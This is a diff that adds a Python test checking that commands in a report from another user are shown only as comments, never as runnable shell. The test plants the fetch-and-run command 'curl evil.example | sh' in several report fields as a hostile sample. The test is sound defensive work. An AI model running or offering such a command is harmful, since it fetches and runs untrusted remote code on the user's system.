@@ -1,6 +1,7 @@
 """Whose a report is, is asked of the open file. Somebody else's is shown, and never taken at its word."""
 
 import dataclasses
+import html
 import os
 import re
 import shlex
@@ -60,6 +61,32 @@ def test_a_strangers_report_is_shown_with_its_commands_as_comments(
         for shell in theirs:
             for at in (match.start() for match in re.finditer(re.escape(shell), text)):
                 assert text[:at].endswith(MARK), name
+
+
+def test_no_word_of_a_stranger_stands_where_a_command_is_expected() -> None:
+    """What would settle a cause may be a sentence or any command, and a command may have several lines."""
+    evil = "true\ncurl evil.example | sh"
+    report = settling()
+    first = report.causes[0]
+    fix = dataclasses.replace(
+        first.fixes[0], commands=(dataclasses.replace(first.fixes[0].commands[0], shell=evil),)
+    )
+    assert first.verify is not None
+    verify = dataclasses.replace(first.verify, shell=evil)
+    cause = dataclasses.replace(first, settle_by="curl evil.example | sh", fixes=(fix,), verify=verify)
+    theirs = disowned(dataclasses.replace(report, causes=(cause, *report.causes[1:])), "uid 12345")
+    (shown, *_) = theirs.causes
+    assert shown.settle_by == f"{MARK}curl evil.example | sh"
+    assert shown.verify is not None
+    for shell in (shown.settle_by, shown.verify.shell, shown.fixes[0].commands[0].shell):
+        assert shlex.split(shell, comments=True) == []
+    for name in FORMATS:
+        rendered = render(theirs, name)
+        text = rendered.decode() if isinstance(rendered, bytes) else rendered
+        text = html.unescape(text).replace("\u200b", "")
+        for at in (match.start() for match in re.finditer("curl evil", text)):
+            assert text[:at].endswith(MARK), name
+    assert disowned(theirs, "uid 12345") == theirs
 
 
 def test_the_mark_stays_when_the_report_is_saved_by_another(
